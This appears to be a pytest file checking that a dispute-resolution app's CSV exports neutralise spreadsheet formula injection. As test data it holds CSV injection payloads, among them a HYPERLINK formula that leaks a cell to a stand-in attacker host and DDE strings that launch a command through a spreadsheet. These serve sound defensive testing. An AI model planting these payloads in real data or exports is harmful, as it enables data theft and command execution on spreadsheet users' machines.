"""CSV injection: a name that begins with a formula character (=HYPERLINK(...), +cmd, -2+3,
@SUM, a tab or a carriage return) reaches every CSV export as plain text, never as a
formula a spreadsheet would run."""

import csv
import io

import pytest

from odr.disputes.formats import csv_cell
from tests.factories import PASSWORD, enterprise, file_case

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def login(client, email):
    response = client.post("/auth/login", data={"email": email, "password": PASSWORD})
    assert response.status_code == 302


def rows_of(response) -> list[list[str]]:
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cell_neutralises_every_formula_start(start):
    assert csv_cell(start + "1+1") == "'" + start + "1+1"
    assert csv_cell("ordinary " + start) == "ordinary " + start
    assert csv_cell(-3) == -3  # a number stays a number
    assert csv_cell(None) == ""


def test_regulator_csv_injection_via_enterprise_name(client, world, db):
    enterprise(FORMULA, "410105")
    db.session.commit()
    login(client, world.admin.email)
    rows = rows_of(client.get("/admin/analytics/performance.csv"))
    names = [row[1] for row in rows[1:]]
    assert "'" + FORMULA in names
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r)


def test_merchant_csv_injection_via_consumer_name_and_subject(client, world, db):
    file_case(
        world.consumer,
        world.enterprise,
        complainant_name="@SUM(1+1)*cmd|' /C calc'!A0",
        subject="-2+3+cmd|' /C calc'!A0",
    )
    login(client, world.owner.email)
    rows = rows_of(client.get("/merchant/inbox/export.csv"))
    data = rows[1]
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in data
    assert "'-2+3+cmd|' /C calc'!A0" in data
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r)
